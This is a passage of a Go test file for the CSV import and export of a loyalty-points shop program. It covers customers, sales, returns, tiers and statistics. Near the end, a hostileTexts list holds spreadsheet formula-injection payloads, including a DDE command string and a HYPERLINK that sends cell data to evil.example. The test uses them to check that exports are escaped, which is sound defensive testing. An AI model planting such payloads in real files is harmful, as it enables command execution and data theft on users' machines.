package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
)

// retailEnd is after the last sale of the retail files and before any of
// their points expires.
const retailEnd = "2010-12-03T12:00:00Z"

// newRetailShop is a shop with the demo's organization at retailEnd.
func newRetailShop(t *testing.T) *shop {
	t.Helper()
	s := newEmptyShop(t, retailEnd)
	s.apply(demoDocument)
	t.Cleanup(s.verified)
	return s
}

// importFile imports a file and returns the report and what was rejected.
func (s *shop) importFile(t *testing.T, kind, name string) (importReport, string) {
	t.Helper()
	file, err := os.Open(name)
	if err != nil {
		t.Fatal(err)
	}
	defer file.Close()
	rejects := filepath.Join(t.TempDir(), "rejects.csv")
	im := &importer{ctx: context.Background(), call: s.admin().direct, org: "cafe-luna", kind: kind, started: time.Now(), rejectsName: rejects}
	if err := im.run(file); err != nil {
		t.Fatal(err)
	}
	rejected, err := os.ReadFile(rejects)
	if err != nil && !os.IsNotExist(err) {
		t.Fatal(err)
	}
	im.report.Errors = ""
	return im.report, string(rejected)
}

// content is everything in a store.
func content(t *testing.T, s Store) map[string]string {
	t.Helper()
	all, err := view(context.Background(), s, func(tx Tx) (map[string]string, error) {
		all := map[string]string{}
		for e, err := range tx.Scan([]byte{0}, nil, false) {
			if err != nil {
				return nil, err
			}
			all[string(e.Key)] = string(e.Value)
		}
		return all, nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return all
}

// TestImportRetail imports real invoices and credit notes and compares every
// customer with a recomputation from the files that shares no code with the
// engine, on whole numbers of cents and points.
func TestImportRetail(t *testing.T) {
	s := newRetailShop(t)
	report, _ := s.importFile(t, importCustomers, "testdata/retail/customers.csv")
	if want := (importReport{Rows: 164, Added: 164}); report != want {
		t.Errorf("customers: %+v, want %+v", report, want)
	}
	report, _ = s.importFile(t, importSales, "testdata/retail/sales.csv")
	if want := (importReport{Rows: 3268, Added: 226}); report != want {
		t.Errorf("sales: %+v, want %+v", report, want)
	}

	want := recomputeRetail(t)
	sums := retailSums{tiers: map[string]int{}}
	got := map[string]retailCustomer{}
	for _, c := range s.customerDetails(t) {
		if c.ExpiringPoints == nil {
			t.Errorf("%s: expiringPoints is null", c.Name)
		}
		got[*c.Email] = retailCustomer{
			balance: int(c.Balance / decimalOne), lifetime: int(c.LifetimePoints / decimalOne), cents: int(c.TotalSpent / 100),
			purchases: int(c.TransactionsCount), tier: *c.TierName,
		}
	}
	if d := cmp.Diff(want, got, cmp.AllowUnexported(retailCustomer{})); d != "" {
		t.Errorf("customers differ (-recomputed +imported):\n%s", d)
	}
	for _, c := range want {
		sums.balance += c.balance
		sums.cents += c.cents
		sums.tiers[c.tier]++
	}

	first := dayOf(instantOf(time.Date(2010, 11, 1, 12, 0, 0, 0, time.UTC)), time.UTC)
	stats, err := read(context.Background(), s.engine, s.org, s.clock, func(t *txn) (*statistics, error) {
		return t.statistics(statsQuery{from: first, to: dayOf(t.now, t.cfg.zone), groupBy: groupMonth})
	})
	if err != nil {
		t.Fatal(err)
	}
	if got := int(stats.total.outstanding / decimalOne); got != sums.balance {
		t.Errorf("outstanding = %d, balances add up to %d", got, sums.balance)
	}
	if got := int((stats.total.tally.SalesAmount - stats.total.tally.ReturnsAmount) / 100); got != sums.cents {
		t.Errorf("sales less returns = %d cents, customers spent %d", got, sums.cents)
	}
	if n := stats.total.tally.Purchases + stats.total.tally.Returns; n != 226 || stats.total.customers != 164 {
		t.Errorf("%d sales, %d customers", n, stats.total.customers)
	}
	for _, tier := range stats.tiers {
		if int(tier.Customers) != sums.tiers[tier.TierName] {
			t.Errorf("tier %s has %d customers, want %d", tier.TierName, tier.Customers, sums.tiers[tier.TierName])
		}
	}

	// Again: nothing changes, to the byte.
	before := content(t, s.store)
	report, _ = s.importFile(t, importCustomers, "testdata/retail/customers.csv")
	if want := (importReport{Rows: 164, Known: 164}); report != want {
		t.Errorf("customers again: %+v, want %+v", report, want)
	}
	report, _ = s.importFile(t, importSales, "testdata/retail/sales.csv")
	if want := (importReport{Rows: 3268, Known: 226}); report != want {
		t.Errorf("sales again: %+v, want %+v", report, want)
	}
	if d := cmp.Diff(before, content(t, s.store)); d != "" {
		t.Errorf("a second import changed the store:\n%s", d)
	}
}

type retailSums struct {
	balance, cents int
	tiers          map[string]int
}

func (s *shop) customerDetails(t *testing.T) []customerDetail {
	t.Helper()
	all, err := read(context.Background(), s.engine, s.org, s.clock, func(t *txn) ([]customerDetail, error) {
		found, _, err := t.listCustomers(page{1, 1000})
		if err != nil {
			return nil, err
		}
		var all []customerDetail
		for _, cust := range found {
			c, err := t.customer(cust)
			if err != nil {
				return nil, err
			}
			d, err := t.customerDetail(c)
			if err != nil {
				return nil, err
			}
			all = append(all, d)
		}
		return all, nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return all
}

type retailCustomer struct {
	balance, lifetime, cents, purchases int
	tier                                string
}

// recomputeRetail is what the demo's program makes of the retail files: 50
// points for signing up, then one for each 10 spent, twice that on Tuesdays,
// times the tier's multiplier, rounded down per sale. The files have no grain
// and no credit note that belongs to a purchase: each return takes back one
// point for each 10, times the tier's multiplier, as far as there are any.
func recomputeRetail(t *testing.T) map[string]retailCustomer {
	t.Helper()
	customers := map[string]retailCustomer{}
	for _, row := range readCSV(t, "testdata/retail/customers.csv") {
		customers[row["email"]] = retailCustomer{balance: 50, lifetime: 50, tier: "Bronce"}
	}
	zone := time.FixedZone("", -6*3600) // Mexico City in winter
	seen := map[string]bool{}
	for _, row := range readCSV(t, "testdata/retail/sales.csv") {
		if seen[row["externalId"]] {
			continue
		}
		seen[row["externalId"]] = true
		whole, fraction, _ := strings.Cut(row["totalAmount"], ".")
		cents, err := strconv.Atoi(whole + (fraction + "00")[:2])
		if err != nil {
			t.Fatal(err)
		}
		at, err := time.Parse(time.RFC3339, row["createdAt"])
		if err != nil {
			t.Fatal(err)
		}
		c := customers[row["email"]]
		quarters := map[string]int{"Bronce": 4, "Plata": 5, "Oro": 6}[c.tier]
		days := 1
		if at.In(zone).Weekday() == time.Tuesday && row["type"] == "Purchase" {
			days = 2
		}
		points := cents * quarters * days / (1000 * 4)
		if row["type"] == "Purchase" {
			c.balance += points
			c.lifetime += points
			c.cents += cents
			c.purchases++
		} else {
			c.balance -= min(points, c.balance)
			c.lifetime -= points
			c.cents -= cents
		}
		c.tier = "Bronce"
		if c.lifetime >= 1000 {
			c.tier = "Plata"
		}
		if c.lifetime >= 5000 {
			c.tier = "Oro"
		}
		customers[row["email"]] = c
	}
	return customers
}

func readCSV(t *testing.T, name string) []map[string]string {
	t.Helper()
	raw, err := os.ReadFile(name)
	if err != nil {
		t.Fatal(err)
	}
	lines, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var rows []map[string]string
	for _, fields := range lines[1:] {
		row := map[string]string{}
		for i, name := range lines[0] {
			row[name] = fields[i]
		}
		rows = append(rows, row)
	}
	return rows
}

// TestImportBroken imports a file in which most rows are wrong, each in its
// own way: the good ones go in, and each bad one is explained.
func TestImportBroken(t *testing.T) {
	s := newRetailShop(t)
	s.importFile(t, importCustomers, "testdata/retail/customers.csv")
	for _, kind := range []string{importCustomers, importSales} {
		report, rejected := s.importFile(t, kind, "testdata/import/"+kind+".csv")
		golden := "testdata/import/" + kind + ".errors.golden.csv"
		if *updateGolden {
			if err := os.WriteFile(golden, []byte(rejected), 0o644); err != nil {
				t.Fatal(err)
			}
		}
		want, err := os.ReadFile(golden)
		if err != nil {
			t.Fatal(err)
		}
		if d := cmp.Diff(string(want), rejected); d != "" {
			t.Errorf("%s: rejected (-want +got):\n%s", kind, d)
		}
		if report.Added != 3 {
			t.Errorf("%s: %+v, want 3 added", kind, report)
		}
		again, rejectedAgain := s.importFile(t, kind, "testdata/import/"+kind+".csv")
		if again.Added != 0 || again.Known != report.Added+report.Known || rejectedAgain != rejected {
			t.Errorf("%s again: %+v", kind, again)
		}
	}
}

// TestExportImportsAgain moves an organization to another store by its files.
func TestExportImportsAgain(t *testing.T) {
	from, to := newRetailShop(t), newRetailShop(t)
	from.importFile(t, importCustomers, "testdata/retail/customers.csv")
	from.importFile(t, importSales, "testdata/retail/sales.csv")
	for _, kind := range []string{importCustomers, importSales} {
		name := filepath.Join(t.TempDir(), kind+".csv")
		if err := os.WriteFile(name, from.exportedCSV(t, kind), 0o600); err != nil {
			t.Fatal(err)
		}
		if report, rejected := to.importFile(t, kind, name); report.Wrong != 0 || report.Known != 0 {
			t.Errorf("%s: %+v\n%s", kind, report, rejected)
		}
		if d := cmp.Diff(string(from.exportedCSV(t, kind)), string(to.exportedCSV(t, kind))); d != "" {
			t.Errorf("%s differ:\n%s", kind, d)
		}
		if report, _ := from.importFile(t, kind, name); report.Added != 0 || report.Wrong != 0 {
			t.Errorf("%s into where they came from: %+v", kind, report)
		}
	}
	lines := bytes.Count(from.exportedCSV(t, exportMovements), []byte("\n"))
	n, err := read(context.Background(), from.engine, from.org, 0, func(t *txn) (*counters, error) { return t.count() })
	if err != nil || lines != int(n.Movements)+1 {
		t.Errorf("%d lines for %d movements (%v)", lines, n.Movements, err)
	}
}

func (s *shop) exportedCSV(t *testing.T, kind string) []byte {
	t.Helper()
	var out bytes.Buffer
	if err := writeCSV(context.Background(), s.admin().direct, "cafe-luna", kind, false, &out); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// TestImportIndexes imports more customers than may wait for the search index.
func TestImportIndexes(t *testing.T) {
	s := newRetailShop(t)
	indexed := func() uint64 {
		return ask(s, func(t *txn) (uint64, error) { return t.indexed() })
	}
	row := 0
	for _, step := range []struct{ rows, indexed uint64 }{{importIndexed - 1, 0}, {1, importIndexed}, {100, importIndexed}} {
		in := importRequest{Org: "cafe-luna", Kind: importCustomers, Import: "one"}
		for range step.rows {
			in.Rows = append(in.Rows, importRow{FirstName: "Ana", Phone: fmt.Sprintf("+5255%08d", 10_000_000+row)})
			row++
		}
		_, err := s.admin().importRows(t.Context(), in)
		s.ok(err)
		if got := indexed(); got != step.indexed {
			t.Errorf("of %d customers %d are indexed, want %d", row, got, step.indexed)
		}
		s.verified()
		total := ask(s, func(t *txn) (uint64, error) {
			_, total, err := t.search("ana", page{1, 1})
			return total, err
		})
		if total != uint64(row) {
			t.Errorf("found %d of %d", total, row)
		}
	}
	_, err := s.admin().importDone(t.Context(), importEnd{Org: "cafe-luna", Import: "one"})
	s.ok(err)
	if got, want := indexed(), uint64(row-row%gramGroup); got != want {
		t.Errorf("%d are indexed in the end, want %d", got, want)
	}
}

// TestStatistics compares answers for random spans with a plain count over
// all records.
func TestStatistics(t *testing.T) {
	s := newRetailShop(t)
	s.importFile(t, importCustomers, "testdata/retail/customers.csv")
	s.importFile(t, importSales, "testdata/retail/sales.csv")
	ctx := context.Background()
	last := dayOf(s.clock, time.UTC)
	for _, span := range []struct {
		from, to day
		groupBy  string
	}{
		{last - 40, last, groupDay}, {last - 3, last - 3, groupDay}, {last - 3, last - 2, groupWeek}, {last - 60, last + 60, groupMonth},
		{last - 2, last - 1, groupDay}, {last + 5, last + 9, groupWeek},
	} {
		t.Run(fmt.Sprint(span), func(t *testing.T) {
			_, err := read(ctx, s.engine, s.org, s.clock, func(x *txn) (any, error) {
				got, err := x.statistics(statsQuery{from: span.from, to: span.to, groupBy: span.groupBy})
				if err != nil {
					return nil, err
				}
				next := span.from
				for _, p := range append(slices.Clone(got.periods), got.total) {
					if p.from != got.total.from || len(got.periods) == 1 || p.to != got.total.to {
						if p.from != next && p != got.total {
							t.Errorf("a period begins on %v, want %v", p.from, next)
						}
						next = p.to + 1
					}
					want, err := x.naive(p.from, p.to)
					if err != nil {
						return nil, err
					}
					if want != p {
						t.Errorf("%v–%v:\n got %+v\nwant %+v", p.from, p.to, p, want)
					}
				}
				return nil, nil
			})
			if err != nil {
				t.Fatal(err)
			}
		})
	}
}

// naive counts a period by reading everything.
func (t *txn) naive(from, to day) (period, error) {
	p := period{from: from, to: to}
	n, err := t.count()
	if err != nil {
		return p, err
	}
	in := func(at instant) bool { d := dayOf(at, t.cfg.zone); return from <= d && d <= to }
	upTo := func(at instant) bool { return dayOf(at, t.cfg.zone) <= to }
	for i := range n.Customers {
		c, err := t.customerAt(i + 1)
		if err != nil {
			return p, err
		}
		if in(c.CreatedAt) {
			p.tally.NewCustomers++
		}
		if upTo(c.CreatedAt) {
			p.customers++
		}
	}
	active := map[id]bool{}
	for i := range n.Sales {
		s, err := t.saleAt(i + 1)
		if err != nil {
			return p, err
		}
		switch {
		case !in(s.CreatedAt):
		case s.Type == typePurchase:
			p.tally.Purchases++
			p.tally.SalesAmount += s.Total
			active[s.Customer] = true
		default:
			p.tally.Returns++
			p.tally.ReturnsAmount += s.Total
		}
	}
	p.active = uint64(len(active))
	for i := range n.Movements {
		m, err := t.movement(i + 1)
		if err != nil {
			return p, err
		}
		if upTo(m.CreatedAt) {
			p.outstanding += m.Amount
		}
		switch {
		case !in(m.CreatedAt):
		case m.Category == categoryReturn:
			p.tally.PointsReversed -= m.Amount
		case m.Category == categoryExpiration:
			p.tally.PointsExpired -= m.Amount
		case m.Amount > 0:
			p.tally.PointsIssued += m.Amount
		default:
			p.tally.PointsRedeemed -= m.Amount
		}
	}
	return p, nil
}

// importText imports sales from the lines of a file and tells what came of
// them: how many are new, known and wrong, and the line and reason of each
// that was not taken.
func (s *shop) importText(t *testing.T, lines ...string) string {
	t.Helper()
	name := filepath.Join(t.TempDir(), "sales.csv")
	text := strings.Join(append([]string{strings.Join(exportColumns[importSales], ",")}, lines...), "\n")
	s.ok(os.WriteFile(name, []byte(text), 0o600))
	report, rejected := s.importFile(t, importSales, name)
	told := fmt.Sprintf("%d new, %d known, %d wrong", report.Added, report.Known, report.Wrong)
	if rejected == "" {
		return told
	}
	fields := csv.NewReader(strings.NewReader(rejected))
	fields.FieldsPerRecord = -1
	rows, err := fields.ReadAll()
	s.ok(err)
	for _, r := range rows[1:] {
		told += "; " + r[0] + " " + r[1]
	}
	return told
}

// TestImportRows shows which rows are one sale.
func TestImportRows(t *testing.T) {
	const (
		a1    = "A,2026-01-05T10:00:00Z,ana@example.com,,Purchase,10,X,1,5,"
		a2    = "A,2026-01-05T10:01:00Z,ana@example.com,,Purchase,10,Y,1,5,"
		aNext = "A,2026-01-06T10:01:00Z,ana@example.com,,Purchase,10,Y,1,5,"
		a11   = "A,2026-01-05T10:02:00Z,ana@example.com,,Purchase,11,Y,1,5,"
		aBare = "A,2026-01-05T10:03:00Z,ana@example.com,,Purchase,10,,,,"
		aMore = "A,2026-01-05T10:04:00Z,ana@example.com,,Purchase,12,,,,"
		b1    = "B,2026-01-05T11:00:00Z,ana@example.com,,Purchase,10,X,1,5,"
		r1    = "A,2026-01-07T10:00:00Z,ana@example.com,,Return,5,X,1,5,"
		r2    = "A,2026-01-08T10:00:00Z,ana@example.com,,Return,5,Y,1,5,"
		bad   = "A,2026-01-05T10:01:00Z,ana@example.com"
		apart = "las filas de la venta no están juntas"
		spoil = "una de las filas de la venta no es válida"
		short = "tiene 3 columnas y debería tener 10"
	)
	for _, test := range []struct {
		reason string
		lines  []string
		want   string
	}{
		{"two items", []string{a1, a2}, "1 new, 0 known, 0 wrong"},
		{"two items of a sale that leaves its type out", []string{strings.Replace(a1, "Purchase", "", 1), strings.Replace(a2, "Purchase", "", 1)}, "1 new, 0 known, 0 wrong"},
		{"another day", []string{a1, aNext}, "2 new, 0 known, 0 wrong"},
		{"no items", []string{aBare, aMore}, "2 new, 0 known, 0 wrong"},
		{"items and none", []string{a1, aMore}, "2 new, 0 known, 0 wrong"},
		{"totals differ", []string{a1, a11}, "0 new, 0 known, 1 wrong; 2 las filas de la venta no coinciden en totalAmount; 3 las filas de la venta no coinciden en totalAmount"},
		{"returns of two moments", []string{a1, a2, r1, r2}, "3 new, 0 known, 0 wrong"},
		{"apart", []string{a1, b1, a2}, "2 new, 0 known, 1 wrong; 4 " + apart},
		{"known at once", []string{a1, r1, a1}, "2 new, 0 known, 1 wrong; 4 " + apart},
		{"a broken line within", []string{a1, bad, a2, b1}, "1 new, 0 known, 1 wrong; 2 " + spoil + "; 3 " + spoil + "; 4 " + spoil},
		{"a broken line between", []string{a1, bad, b1}, "2 new, 0 known, 1 wrong; 3 " + short},
		{"broken lines at the end", []string{a1, bad, bad}, "1 new, 0 known, 2 wrong; 3 " + short + "; 4 " + short},
		{"broken lines first", []string{bad, a1, a2}, "1 new, 0 known, 1 wrong; 2 " + short},
		{"a broken line within no sale", []string{aBare, bad, aMore}, "2 new, 0 known, 1 wrong; 3 " + short},
	} {
		t.Run(test.reason, func(t *testing.T) {
			s := newShop(t, setup{})
			s.customer("ana")
			if got := s.importText(t, test.lines...); got != test.want {
				t.Errorf("got  %s\nwant %s", got, test.want)
			}
		})
	}
}

// TestImportConflict shows that a sale that is there is not overwritten.
func TestImportConflict(t *testing.T) {
	s := newShop(t, setup{})
	s.customer("ana")
	s.importText(t, "A,2026-01-05T10:00:00Z,ana@example.com,,Purchase,10,X,1,5,")
	const want = "0 new, 0 known, 1 wrong; 2 externalId ya se registró con otros datos"
	if got := s.importText(t, "A,2026-01-05T10:00:00Z,ana@example.com,,Purchase,9,X,1,5,"); got != want {
		t.Errorf("got %s", got)
	}
}

// TestImportOfToldSale shows that what the till has told the API counts once.
func TestImportOfToldSale(t *testing.T) {
	s := newShop(t, setup{at: "2026-03-03T04:00:00Z", program: `"rules":[` + onePer1 + `]`}) // still 2 March there
	ana := s.customer("ana")
	_, err := s.sell(newSale{Customer: ana, Total: dec("10"), ExternalID: "A", Source: sourceAPI})
	s.ok(err)
	s.pass(2 * oneDay)
	for _, test := range []struct{ line, want string }{
		{"A,2026-03-02T06:00:00Z,ana@example.com,,Purchase,10,X,1,10,", "0 new, 1 known, 0 wrong"},
		{"A,2026-03-02T06:00:00Z,ana@example.com,,Purchase,11,X,1,11,", "1 new, 0 known, 0 wrong"},
		{"A,2026-03-03T06:00:00Z,ana@example.com,,Purchase,10,X,1,10,", "1 new, 0 known, 0 wrong"},
		{"A,2026-03-03T07:00:00Z,ana@example.com,,Purchase,10,X,1,10,", "1 new, 0 known, 0 wrong"}, // what came by an import is another sale
	} {
		if got := s.importText(t, test.line); got != test.want {
			t.Errorf("%s: %s, want %s", test.line, got, test.want)
		}
	}
}

// TestImportSettles shows that sales of long ago find the tier of their time,
// and that the account is as of today once the import is done.
func TestImportSettles(t *testing.T) {
	s := newShop(t, setup{at: "2026-03-02T10:00:00Z", program: `"expiry":{"days":30},
		"tierBasis":{"metric":"AmountSpent","window":"Rolling","months":1},
		"tiers":[{"name":"Bronce","threshold":0},{"name":"Plata","threshold":100,"multiplier":2}],"rules":[` + onePer1 + `]`})
	ana := s.customer("ana")
	s.importText(t, "A,2025-01-05T10:00:00Z,ana@example.com,,Purchase,100,X,1,100,", "B,2025-01-06T10:00:00Z,ana@example.com,,Purchase,100,X,1,100,")
	a := ask(s, func(t *txn) (*account, error) {
		c, err := t.customer(ana)
		if err != nil {
			return nil, err
		}
		return t.storedAccount(c, t.cfg.Programs[0])
	})
	if a.Tier != "Bronce" || a.Balance != 0 || a.Due != never || a.Lifetime != dec("300") {
		t.Errorf("the account is left as %+v", a)
	}
	s.verified()
}

// TestImportDailyMaximum shows that a rule's limit holds for the day of the
// sale, also where sales of two days come in turns.
func TestImportDailyMaximum(t *testing.T) {
	s := newShop(t, setup{at: "2026-03-02T18:00:00Z", program: `"rules":[{"key":"a","name":"a","points":1,"maxPerCustomerPerDay":1}]`})
	ana := s.customer("ana")
	s.buy(ana, "1")
	s.importText(t, "A,2026-02-05T18:00:00Z,ana@example.com,,Purchase,1,,,,", "B,2026-02-05T18:00:01Z,ana@example.com,,Purchase,1,,,,")
	s.wantStanding(ana, "2 0 2", "one today, one that day")
	s.buy(ana, "1")
	s.wantStanding(ana, "2 0 2", "today's is still used up")
	s.pass(10 * oneDay)
	s.buy(ana, "1")
	uses := 0
	for _, e := range s.entries() {
		if e.Key[0] == 'c' && e.Key[21] == partRuleUse {
			uses++
		}
	}
	if uses != 1 {
		t.Errorf("%d counts are kept, want today's only", uses)
	}
}

// TestExportLinksReturns shows that returns are linked again in another store
// as they were here, by whatever they were linked.
func TestExportLinksReturns(t *testing.T) {
	with := setup{at: "2026-03-02T10:00:00Z", program: `"rules":[` + onePer1 + `]`}
	from, to := newShop(t, with), newShop(t, with)
	ana := from.customer("ana")
	sell := func(in newSale) *sale {
		t.Helper()
		from.pass(time.Minute)
		in.Customer = ana
		sold, err := from.sell(in)
		from.ok(err)
		return sold
	}
	items := []item{{"X", dec("10"), dec("2")}, {"Y", dec("30"), dec("1")}}
	nameless := sell(newSale{Total: dec("50"), Items: items})
	named := sell(newSale{Total: dec("50"), Items: items, ExternalID: "A"})
	twin := sell(newSale{Total: dec("40"), ExternalID: "B"})
	sell(newSale{Total: dec("40"), ExternalID: "B"})
	for _, purchase := range []*sale{nameless, named, twin} {
		one, two := []item{{"X", dec("10"), dec("1")}}, []item{{"Y", dec("30"), dec("1")}}
		if len(purchase.Items) == 0 {
			one, two = nil, nil
		}
		sell(newSale{Type: typeReturn, Total: dec("10"), Items: one, Original: &purchase.ID})
		sell(newSale{Type: typeReturn, Total: dec("30"), Items: two, Original: &purchase.ID, ExternalID: "R-1"})
	}
	sell(newSale{Type: typeReturn, Total: dec("1")})
	sell(newSale{Type: typeReturn, Total: dec("5"), ExternalID: "B"})

	to.clock = from.clock
	to.customer("ana")
	name := filepath.Join(t.TempDir(), "sales.csv")
	from.ok(os.WriteFile(name, from.exportedCSV(t, importSales), 0o600))
	if report, rejected := to.importFile(t, importSales, name); report.Added != 12 || report.Known+report.Wrong != 0 {
		t.Errorf("%+v\n%s", report, rejected)
	}
	links := func(s *shop) string {
		return ask(s, func(t *txn) (string, error) {
			told := ""
			for seq := range uint64(12) {
				x, err := t.saleAt(seq + 1)
				if err != nil {
					return "", err
				}
				told += fmt.Sprintln(x.Type, x.Total, x.Earned, x.Reversed, x.Unearned, x.Returned, x.Lines)
				if x.Previous != (id{}) {
					p, err := t.sale(x.Previous)
					if err != nil {
						return "", err
					}
					told += fmt.Sprintln(" of", p.Seq)
				}
			}
			return told, nil
		})
	}
	if d := cmp.Diff(links(from), links(to)); d != "" {
		t.Errorf("sales differ:\n%s", d)
	}
	for _, s := range []*shop{from, to} {
		if report, rejected := s.importFile(t, importSales, name); report.Known != 12 || report.Added+report.Wrong != 0 {
			t.Errorf("again: %+v\n%s", report, rejected)
		}
	}
}

// A brokenStore has a record that cannot be read, or one that nobody gets past.
type brokenStore struct {
	Store
	broken func(key []byte) error
}

func (s brokenStore) Update(ctx context.Context, fn func(Tx) error) error {
	return s.Store.Update(ctx, func(tx Tx) error { return fn(&brokenTx{tx, s.broken}) })
}

type brokenTx struct {
	Tx
	broken func(key []byte) error
}

func (t *brokenTx) Get(key []byte) ([]byte, bool, error) {
	if err := t.broken(key); err != nil {
		return nil, false, err
	}
	return t.Tx.Get(key)
}

// TestImportPartFails: rows that come after some that could not be stored are not
// stored either, though they were begun before that was known. A return would go
// in without its purchase, and stay so.
func TestImportPartFails(t *testing.T) {
	for name, broken := range map[string]func(key []byte) error{
		"nothing fails": nil,
		"error":         func([]byte) error { return errCorrupt },
		"panic":         func([]byte) error { panic("broken") },
	} {
		t.Run(name, func(t *testing.T) {
			s := newShop(t, setup{at: "2026-03-02T10:00:00Z", program: `"rules":[` + onePer1 + `]`})
			ana, bea := s.customer("ana"), s.customer("bea")
			s.customer("carl")
			sale := func(externalID, name, kind string) importRow {
				return importRow{ExternalID: externalID, CreatedAt: "2026-02-01T10:00:00Z", Email: name + "@example.com", Type: kind, Total: "10"}
			}
			rows := []importRow{sale("A", "ana", typePurchase)}
			for len(rows) < importPartRows-1 {
				rows = append(rows, sale(fmt.Sprint(len(rows)), "carl", typePurchase))
			}
			rows = append(rows, sale("B", "bea", typePurchase), sale("A", "ana", typeReturn)) // the last one in a part of its own
			in := importRequest{Org: "cafe-luna", Kind: importSales, Import: "1", Rows: rows}

			if broken != nil {
				whole := s.engine.store
				s.engine.store = watch(brokenStore{whole.Store, func(key []byte) error {
					if key[0] == 'c' && bytes.Contains(key, bea[:]) {
						return broken(key)
					}
					return nil
				}})
				func() {
					defer func() {
						if p := recover(); (p != nil) != (name == "panic") {
							t.Errorf("panic: %v", p)
						}
					}()
					if _, err := s.admin().importRows(t.Context(), in); !errors.Is(err, errCorrupt) {
						t.Errorf("error %v", err)
					}
				}()
				s.engine.store = whole
				if n := ask(s, func(t *txn) (*counters, error) { return t.count() }); n.Sales != 0 {
					t.Errorf("%d sales are there", n.Sales)
				}
			}
			_, err := s.admin().importRows(t.Context(), in)
			s.ok(err)
			s.wantStanding(ana, "0 0 0", "bought and brought back")
		})
	}
}

// TestImportColumns: no column is dropped unless the command line says so.
func TestImportColumns(t *testing.T) {
	s := newTill(t)
	s.ok("apply " + s.file("org.json", string(setup{}.document())))
	customers, sales := strings.Join(exportColumns[importCustomers], ","), strings.Join(exportColumns[importSales], ",")
	for _, test := range []struct {
		kind, flags, header string
		fault               string // "" for none
	}{
		{"customers", "", customers, ""},
		{"sales", "", sales, ""},
		{"customers", "", " email ,phoneNumber", ""},
		{"customers", "", "line,reason," + customers, ""},
		{"sales", "", "line,reason," + sales, ""},
		{"customers", "", "email,phoneNumber,puntos", `columnas desconocidas: "puntos" (con -ignore se dejan fuera)`},
		{"customers", "", "email,phoneNumber,Email,nombre", `columnas desconocidas: "Email", "nombre"`},
		{"customers", "", "email,phoneNumber,", `columnas desconocidas: ""`},
		{"customers", "", "email,phoneNumber,line,reason", `columnas desconocidas: "line", "reason"`},
		{"customers", "-ignore puntos", "email,phoneNumber,puntos", ""},
		{"customers", "-ignore puntos", "email,phoneNumber,puntos,notas", `columnas desconocidas: "notas"`},
		{"customers", "-ignore puntos,notas", "email,phoneNumber,puntos,notas", ""},
		{"customers", "-ignore puntos -ignore notas", "email,phoneNumber,puntos,notas,puntos", ""},
		{"customers", "-ignore=", "email,phoneNumber,,", ""},
		{"customers", "-ignore a,b", `email,phoneNumber,"a,b",a,b`, ""},
		{"customers", "-ignore email", "email,phoneNumber", "faltan columnas: email"},
		{"customers", "", "email,phoneNumber,email", "la columna email está dos veces"},
		{"sales", "", customers, "faltan columnas: externalId, createdAt, type, totalAmount"},
	} {
		row := strings.Repeat(",", strings.Count(strings.ReplaceAll(test.header, `"a,b"`, ""), ","))
		file := s.file("file.csv", test.header+"\n"+row+"\n")
		code, out, told := s.run("import " + test.kind + " " + test.flags + " " + file)
		added := map[string]string{"customers": "nuevos", "sales": "nuevas"}[test.kind]
		ended := strings.Contains(out, "1 fila: 0 "+added+", 0 que ya estaban, 1 con errores") // the row says nothing
		if code != 1 || ended != (test.fault == "") || !strings.Contains(told, test.fault) {
			t.Errorf("%s %s of %s: %d\n%s%s", test.kind, test.flags, test.header, code, out, told)
		}
	}
}

// TestImportMended imports the file of errors of another import, once it is mended.
func TestImportMended(t *testing.T) {
	s := newTill(t)
	s.ok("apply " + s.file("org.json", string(setup{}.document())))
	file := s.file("file.csv", "email,phoneNumber,puntos,firstName\nana@example.com,,5,Ana\neva,,7,Eva\n")
	s.run("import customers -ignore puntos " + file)
	rejected := string(readFile(t, file+".errors.csv"))
	if want := "line,reason,email,phoneNumber,puntos,firstName\n3,El email no tiene un formato válido,eva,,7,Eva\n"; rejected != want {
		t.Fatalf("rejected: %s", rejected)
	}
	s.ok("import customers -ignore puntos " + s.file("mended.csv", strings.Replace(rejected, ",eva,", ",eva@example.com,", 1)))
	if out := s.ok("export customers"); out != "firstName,lastName,email,phoneNumber\nAna,,ana@example.com,\nEva,,eva@example.com,\n" {
		t.Error(out)
	}
}

// hostileTexts are what somebody may call himself so that a spreadsheet does what it
// says, and what only looks like that.
var hostileTexts = []string{
	"=1+1", "+SUM(A1:A9)", "-2+3", "@SUM(1)", "=cmd|' /C calc'!A0", `=HYPERLINK("http://evil.example?x="&A1,"ver")`, "＝1+1", "－1+1", "＋1", "＠x", "+", "-", "=",
	"'=1", "''-x", "'", "''", "'s-Hertogenbosch", "' =1", "-5", "+5", "-5.25", "'-5", "- 5", "+52 55", "-1e9", "a=1", "a;=1", "=1,\"2\"\n=3", "Ana",
}

// TestExportFormulas: a spreadsheet finds nothing to run in an export, and what is
// imported again is to the byte what was exported. Raw, the texts are as they are.
func TestExportFormulas(t *testing.T) {
	from, to, raw := newTill(t), newTill(t), newTill(t)
	for _, s := range []*till{from, to, raw} {
		s.ok("apply " + s.file("org.json", string(setup{}.document())))
	}
	var customers, sales bytes.Buffer
	c, s := csv.NewWriter(&customers), csv.NewWriter(&sales)
	c.Write(exportColumns[importCustomers])
	s.Write(exportColumns[importSales])
	for i, text := range hostileTexts {
		address := fmt.Sprintf("c%d@example.com", i)
		c.Write([]string{text, text, address, fmt.Sprintf("+5255123456%02d", i)})
		s.Write([]string{fmt.Sprintf("%s%d", strings.TrimRight(text, "'")+"x", i), "2026-01-05T10:00:00Z", address, "", typePurchase, "10", text, "1", "10", text})
	}
	c.Flush()
	s.Flush()
	from.ok("import customers -raw " + from.file("c.csv", customers.String()))
	from.ok("import sales -raw " + from.file("s.csv", sales.String()))
	for _, kind := range []string{importCustomers, importSales} {
		exported, plain := from.ok("export "+kind), from.ok("export "+kind+" -raw")
		rows, err := csv.NewReader(strings.NewReader(exported)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		column := slices.Index(exportColumns[kind], map[string]string{importCustomers: "lastName", importSales: "comment"}[kind])
		rawRows, err := csv.NewReader(strings.NewReader(plain)).ReadAll()
		if err != nil {
			t.Fatal(err)
